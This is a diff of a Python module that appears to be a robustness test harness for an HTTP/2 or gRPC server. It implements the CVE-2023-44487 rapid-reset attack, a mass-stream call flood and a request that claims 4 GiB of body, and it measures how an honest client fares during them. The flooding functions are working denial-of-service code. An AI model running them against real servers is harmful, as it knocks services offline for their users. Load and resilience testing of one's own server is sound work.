@@ -11,8 +11,8 @@ import threading
 import time
 from typing import Callable
 
-from http2 import (CONTINUATION, END_HEADERS, END_STREAM, HEADERS, REMEMBERED, RST_STREAM,
-                   Connection, frame, request_headers)
+from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_MAX, HEADERS, REMEMBERED,
+                   RST_STREAM, Connection, frame, request_headers)
 
 PATIENCE_S = 0.5  # An attacker whom nobody reads from any more begins anew.
 TRIES_S = 5.0
@@ -121,12 +121,13 @@ def client_hello() -> bytes:
     return outgoing.read()
 
 
-def rapid_reset(address: str, context: ssl.SSLContext, threads: int = 1) -> Attack:
+def rapid_reset(address: str, context: ssl.SSLContext, threads: int = 1,
+                path: str = STATUS) -> Attack:
     """CVE-2023-44487: streams that are begun and reset at once."""
     def turn(attack: Attack) -> None:
         with Connection(address, context, PATIENCE_S) as connection:
             connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1,
-                                  request_headers(STATUS, indexed=True)))
+                                  request_headers(path, indexed=True)))
             reset = b"\x00\x00\x00\x08"
             stream = 3
             while not attack.over.is_set() and stream < 0x7fff0000:
@@ -136,6 +137,31 @@ def rapid_reset(address: str, context: ssl.SSLContext, threads: int = 1) -> Atta
                     batch.append(frame(RST_STREAM, 0, number, reset))
                 stream += 2000
                 connection.send(b"".join(batch))
+    return Attack(turn, threads)
+
+
+def call_flood(address: str, context: ssl.SSLContext, threads: int = 1,
+               at_once: int = 200) -> Attack:
+    """Honest calls, as many as the server can take."""
+    def turn(attack: Attack) -> None:
+        with Connection(address, context, PATIENCE_S) as connection:
+            while not attack.over.is_set():
+                streams = [connection.begin(STATUS) for _ in range(at_once)]
+                while not all(connection.ended(stream) for stream in streams):
+                    connection.take(*connection.next_frame())
+                connection.statuses.clear()
+                connection.windows = {0: connection.windows[0]}
+    return Attack(turn, threads)
+
+
+def endless_message(address: str, context: ssl.SSLContext, threads: int = 1) -> Attack:
+    """A request that claims 4 GiB, sent as fast as the server takes it."""
+    def turn(attack: Attack) -> None:
+        with Connection(address, context, PATIENCE_S) as connection:
+            stream = connection.begin(STATUS, claimed=0xffffffff)
+            while not attack.over.is_set() and not connection.ended(stream):
+                connection.wait_for_window(stream, FRAME_MAX)
+                connection.send(frame(DATA, 0, stream, b"x" * FRAME_MAX))
     return Attack(turn, threads)
 
 
@@ -157,13 +183,43 @@ def endless_headers(address: str, context: ssl.SSLContext, after_call: bool, pie
     return Attack(turn, threads)
 
 
+class Page:
+    """One request for the metrics page; the server closes the connection after its answer."""
+
+    def __init__(self, address: str, context: ssl.SSLContext, timeout: float = 10) -> None:
+        host, port = address.rsplit(":", 1)
+        plain = socket.create_connection((host, int(port)), timeout=timeout)
+        try:
+            self.socket = context.wrap_socket(plain, server_hostname="rt")
+        except BaseException:
+            plain.close()
+            raise
+
+    def __enter__(self) -> "Page":
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self.socket.close()
+
+    def call(self, path: str) -> int:
+        """The HTTP status."""
+        self.socket.sendall(f"GET {path} HTTP/1.1\r\nHost: rt\r\n\r\n".encode())
+        answer = b""
+        while more := self.socket.recv(65536):
+            answer += more
+        if not answer.startswith(b"HTTP/1.1 "):
+            raise ConnectionError("no answer")
+        return int(answer.split()[1])
+
+
 class Victim:
     """An honest client: one held connection and a new one each time, both asked again and again. As
     gRPC's own clients do, it connects again when its connection was closed; that takes time too."""
 
-    def __init__(self, address: str, context: ssl.SSLContext, path: str = STATUS,
-                 status: int = 0) -> None:
+    def __init__(self, address: str, context: ssl.SSLContext, path: str = STATUS, status: int = 0,
+                 client: type[Connection] | type[Page] = Connection) -> None:
         self.address, self.context, self.path, self.status = address, context, path, status
+        self.client = client
         self.over = threading.Event()
         self.times: dict[str, list[float]] = {"held": [], "new": []}
         self.errors: list[str] = []
@@ -171,14 +227,14 @@ class Victim:
                         for kind in self.times]
 
     def ask(self, kind: str) -> None:
-        held: Connection | None = None
+        held: Connection | Page | None = None
         while not self.over.is_set():
             begun = time.monotonic()
             status = None
             while status is None:
                 try:
                     if held is None:
-                        held = Connection(self.address, self.context)
+                        held = self.client(self.address, self.context)
                     status = held.call(self.path)
                 except OSError as error:
                     held = self.close(held)
@@ -188,13 +244,13 @@ class Victim:
             self.times[kind].append(time.monotonic() - begun)
             if status not in (None, self.status):
                 self.errors.append(f"{kind}: status {status}")
-            if kind == "new":
+            if kind == "new" or self.client is Page:
                 held = self.close(held)
             self.over.wait(0.05)
         self.close(held)
 
     @staticmethod
-    def close(connection: Connection | None) -> None:
+    def close(connection: Connection | Page | None) -> None:
         if connection is not None:
             connection.socket.close()
 
